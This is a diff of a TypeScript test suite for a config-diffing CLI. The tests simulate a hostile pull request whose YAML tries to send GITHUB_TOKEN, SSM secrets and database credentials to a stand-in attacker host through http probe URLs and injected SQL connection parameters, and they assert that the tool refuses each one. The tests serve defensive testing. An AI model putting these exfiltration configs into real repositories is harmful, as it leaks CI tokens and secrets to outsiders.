@@ -67,16 +67,19 @@ describe('hostile pull request: exfiltration', () => {
   let before = 0;
   const config = (body: string) => ({ ...TRUSTED, 'parity.yaml': body });
   const at = () => `${attacker.host}:${attacker.port}`;
-  afterEach(() => {
-    before = attacker.connections();
-  });
-
-  const probeToAttacker = () => `version: 1
+  /** A config whose environments may reach the attacker's host (the pull request wrote it). */
+  const attackerHosts = () => `version: 1
 environments:
   staging: { allowHosts: [${attacker.host}] }
   production: { allowHosts: [${attacker.host}] }
 sources:
-  params: { type: ssm, path: "/app/\${env}/", export: "ssm-\${env}.json" }
+`;
+  afterEach(() => {
+    before = attacker.connections();
+  });
+
+  const probeToAttacker =
+    () => `${attackerHosts()}  params: { type: ssm, path: "/app/\${env}/", export: "ssm-\${env}.json" }
   exfil:
     type: http
     url: "http://${at()}/collect"
@@ -118,12 +121,7 @@ sources:
 
   it('${ENV:…} in an http probe URL (query) on a declared host: a config error, no request', async () => {
     const { dir } = pullRequestRepo(
-      config(`version: 1
-environments:
-  staging: { allowHosts: [${attacker.host}] }
-  production: { allowHosts: [${attacker.host}] }
-sources:
-  exfil: { type: http, url: "http://${at()}/x?t=\${ENV:GITHUB_TOKEN}" }
+      config(`${attackerHosts()}  exfil: { type: http, url: "http://${at()}/x?t=\${ENV:GITHUB_TOKEN}" }
 `),
     );
     const result = await runCli(['diff', 'staging', 'production'], { cwd: dir, env: JOB });
@@ -133,12 +131,7 @@ sources:
 
   it('a decrypted SecureString in an http probe URL path: the source fails, no request', async () => {
     const { dir } = pullRequestRepo(
-      config(`version: 1
-environments:
-  staging: { allowHosts: [${attacker.host}] }
-  production: { allowHosts: [${attacker.host}] }
-sources:
-  params: { type: ssm, path: "/app/\${env}/", export: "ssm-\${env}.json" }
+      config(`${attackerHosts()}  params: { type: ssm, path: "/app/\${env}/", export: "ssm-\${env}.json" }
   exfil: { type: http, url: "http://${at()}/\${params:SECRET_KEY}" }
 `),
     );
@@ -153,12 +146,7 @@ sources:
 
   it('sql: the database URL plus ?host=…&port=… of its own: refused, nothing reaches it', async () => {
     const { dir } = pullRequestRepo(
-      config(`version: 1
-environments:
-  staging: { allowHosts: [${attacker.host}] }
-  production: { allowHosts: [${attacker.host}] }
-sources:
-  params: { type: ssm, path: "/app/\${env}/", export: "ssm-\${env}.json" }
+      config(`${attackerHosts()}  params: { type: ssm, path: "/app/\${env}/", export: "ssm-\${env}.json" }
   plans:
     type: sql
     connection: "\${params:DATABASE_URL}?host=${attacker.host}&port=${attacker.port}"
@@ -181,12 +169,7 @@ sources:
     async (_n, tail, head) => {
       const url = `postgres://${head}${tail.replace('HOST', at())}`;
       const { dir } = pullRequestRepo(
-        config(`version: 1
-environments:
-  staging: { allowHosts: [${attacker.host}] }
-  production: { allowHosts: [${attacker.host}] }
-sources:
-  plans: { type: sql, connection: "${url}", query: SELECT 1 AS id, key: id }
+        config(`${attackerHosts()}  plans: { type: sql, connection: "${url}", query: SELECT 1 AS id, key: id }
 `),
       );
       const result = await runCli(['diff', 'staging', 'production'], { cwd: dir, env: JOB });
@@ -198,12 +181,7 @@ sources:
 
   it('sql: a session-altering URL parameter on a declared host: refused before connecting', async () => {
     const { dir } = pullRequestRepo(
-      config(`version: 1
-environments:
-  staging: { allowHosts: [${attacker.host}] }
-  production: { allowHosts: [${attacker.host}] }
-sources:
-  plans:
+      config(`${attackerHosts()}  plans:
     type: sql
     connection: "postgres://reader:pw@${at()}/app?options=-c%20default_transaction_read_only%3Doff"
     query: SELECT 1 AS id
